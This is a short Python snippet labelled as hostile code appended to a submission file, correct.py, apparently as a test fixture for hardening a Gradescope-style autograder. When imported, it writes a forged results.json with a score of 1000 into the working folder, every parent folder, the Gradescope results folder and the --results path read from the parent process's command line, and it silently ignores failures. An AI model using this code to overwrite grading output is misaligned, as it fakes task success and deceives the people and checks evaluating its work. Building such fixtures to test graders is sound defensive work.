# Appended to correct.py. Hostile: at import, the submission writes a Gradescope results.json with a huge score
# wherever it might be picked up: its folder, the folders above it, Gradescope's results folder and the path
# after --results on its parent process's command line.
import json
import os

FAKE = json.dumps({"score": 1000, "tests": [{"name": "everything", "score": 1000, "max_score": 1000}]})
targets = ["results.json", "/autograder/results/results.json"]
folder = os.getcwd()
while folder != os.path.dirname(folder):
    folder = os.path.dirname(folder)
    targets.append(os.path.join(folder, "results.json"))
try:
    with open(f"/proc/{os.getppid()}/cmdline", "rb") as stream:
        arguments = stream.read().decode().split("\0")
    targets.append(arguments[arguments.index("--results") + 1])
except (OSError, ValueError, IndexError):
    pass
for target in targets:
    try:
        with open(target, "w") as stream:
            stream.write(FAKE)
    except OSError:
        pass
